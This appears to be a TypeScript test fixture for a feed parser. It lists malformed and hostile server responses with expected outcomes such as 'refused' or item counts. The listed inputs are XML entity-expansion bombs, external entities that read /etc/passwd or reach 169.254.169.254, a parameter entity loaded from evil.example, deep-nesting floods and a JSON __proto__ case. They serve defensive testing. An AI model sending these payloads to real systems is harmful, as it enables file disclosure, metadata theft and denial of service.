/** As large as a feed may be, which is where bad complexity shows. */
const FULL = 8 * 1024 * 1024;
const fill = (piece: string, of = FULL): string => piece.repeat(Math.floor(of / piece.length));
const feed = (item: string): string => `<rss><channel><title>T</title><item>${item}</item></channel></rss>`;
const cdata = (text: string): string =>
  feed(`<title>a</title><description><![CDATA[${text}]]></description>`);

/** Nine levels of ten: a billion laughs. */
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

/** A billion laughs. */
export const bomb = (): string => `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>${feed('<title>&l9;</title>')}`;

/** Feeds of broken or hostile servers, and the expected outcome or number of items. */
export const hostileFeeds: readonly (readonly [
  name: string,
  served: () => string,
  expected: string | number,
])[] = [
  ['a billion laughs', bomb, 'refused'],
  [
    'two entities of each other',
    () => `<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${feed('<title>&a;</title>')}`,
    'refused',
  ],
  [
    'an entity hidden by a character reference',
    () => `<!DOCTYPE x [<!ENTITY a "&#38;b;"><!ENTITY b "x">]>${feed('<title>&a;</title>')}`,
    'refused',
  ],
  [
    'one long entity, many times',
    () => `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(50_000)}">]>${feed(`<title>${fill('&a;', 1e6)}</title>`)}`,
    'refused',
  ],
  [
    'a short entity, very many times',
    () => `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(90)}">]>${feed(`<title>${fill('&a;')}</title>`)}`,
    1,
  ],
  [
    'a file as an entity',
    () =>
      `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${feed('<title>&f;</title><link>http://a.example/</link>')}`,
    1,
  ],
  [
    'an address as an entity',
    () => `<!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/">]>${feed('<title>&f;</title>')}`,
    1,
  ],
  [
    'an external parameter entity',
    () => `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${feed('<title>a</title>')}`,
    1,
  ],
  [
    'thousands of entities',
    () =>
      `<!DOCTYPE x [${Array.from({ length: 3000 }, (_, n) => `<!ENTITY e${n} "x">`).join('')}]>${feed('')}`,
    'refused',
  ],
  ['a declaration without an end', () => `<!DOCTYPE x [${fill('<!ENTITY a "b">')}`, 'refused'],
  ['declarations inside declarations', () => fill('<!DOCTYPE '), 'not_a_feed'],
  ['eight megabytes of depth', () => `<rss>${fill('<a>')}`, 'refused'],
  ['depth inside an item', () => feed(`<description>${fill('<div>', 5e6)}</description>`), 'refused'],
  ['two million elements', () => `<rss>${fill('<a/>')}`, 'refused'],
  ['items without an end', () => `<rss><channel>${fill('<item>')}`, 'refused'],
  [
    'more items than are read',
    () => `<rss><channel>${fill('<item><title>a</title></item>', 28 * 50_000)}</channel></rss>`,
    2_000,
  ],
  ['nothing but <', () => `<rss>${fill('<')}`, 'refused'],
  ['tags that never end', () => `<rss>${fill('<a ')}`, 'refused'],
  ['closing tags alone', () => `<rss>${fill('</b>')}`, 'refused'],
  ['closing tags under a tall stack', () => `<rss>${'<a>'.repeat(150)}${fill('</b>')}`, 'refused'],
  ['one tag of eight megabytes', () => `<rss><item ${fill('a ')}><title>x</title></item></rss>`, 1],
  ['one name of eight megabytes', () => `<rss><${fill('a')}>`, 0],
  ['a million namespaces', () => `<rss${fill(' xmlns:a="b"')}><item><title>x</title></item></rss>`, 1],
  ['quotes that never close', () => `<rss><item a="${fill('>')}`, 1],
  ['comments inside comments', () => `<rss>${fill('<!--')}`, 0],
  ['CDATA inside CDATA', () => `<rss>${fill('<![CDATA[')}`, 0],
  ['instructions without end', () => fill('<?'), 'not_a_feed'],
  ['a title of ampersands', () => feed(`<title>${fill('&')}</title>`), 1],
  ['a title of half tags', () => feed(`<title>${fill('&lt;b ')}</title>`), 1],
  ['a text of <', () => cdata(fill('<')), 1],
  ['a text of <p>', () => cdata(fill('<p>')), 1],
  ['a text of <script>', () => cdata(fill('<script>')), 1],
  ['a text of <!--', () => cdata(fill('<!--')), 1],
  ['a text of <img', () => cdata(fill('<img src=')), 1],
  ['a text of blanks', () => cdata(fill(' ')), 1],
  ['a link of eight megabytes', () => feed(`<title>a</title><link>http://a.example/${fill('a')}</link>`), 1],
  [
    'a base of eight megabytes',
    () => `<rss xml:base="${fill('../')}"><item><title>a</title><link>b</link></item></rss>`,
    1,
  ],
  ['a date of eight megabytes', () => feed(`<title>a</title><pubDate>${fill('1 ')}</pubDate>`), 1],
  ['null characters', () => feed(`<title>${'\0'.repeat(1000)}a</title>`), 1],
  ['halves of characters', () => feed(`<title>${'\ud800'.repeat(1000)}</title>`), 1],
  [
    'JSON of eight megabytes of depth',
    () => `{"version":"https://jsonfeed.org/version/1","items":${fill('[')}`,
    'not_a_feed',
  ],
  [
    'JSON with brackets in a string',
    () =>
      `{"version":"https://jsonfeed.org/version/1","items":[{"id":"${'['.repeat(500)}\\"${'{'.repeat(500)}"}]}`,
    1,
  ],
  [
    'JSON with a prototype',
    () => '{"version":"https://jsonfeed.org/version/1","items":[{"__proto__":{"title":"x"},"id":"1"}]}',
    1,
  ],
  [
    'JSON that is cut off',
    () => '{"version":"https://jsonfeed.org/version/1","items":[{"id":"1"},{"id"',
    'not_a_feed',
  ],
  ['JSON without items', () => '{"version":"https://jsonfeed.org/version/1.1","title":"x"}', 'not_a_feed'],
  ['other JSON', () => '[1,2,3]', 'not_a_feed'],
  ['nothing', () => '', 'not_a_feed'],
  ['blanks', () => ' \n\t ', 'not_a_feed'],
  ['plain words', () => 'Internal Server Error', 'not_a_feed'],
  ['bytes of a picture', () => '\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'not_a_feed'],
  ['a page', () => '<!DOCTYPE html><html><body>Hello</body></html>', 'page'],
  ['an SVG', () => '<svg xmlns="http://www.w3.org/2000/svg"><title>x</title></svg>', 'not_a_feed'],
  [
    'a site map',
    () => '<?xml version="1.0"?><urlset><url><loc>http://a.example</loc></url></urlset>',
    'not_a_feed',
  ],
  ['an OPML', () => '<opml version="2.0"><body><outline text="a"/></body></opml>', 'not_a_feed'],
  ['an empty feed', () => '<rss version="2.0"><channel><title>Quiet</title></channel></rss>', 0],
  ['only a root', () => '<feed xmlns="http://www.w3.org/2005/Atom"/>', 0],
];
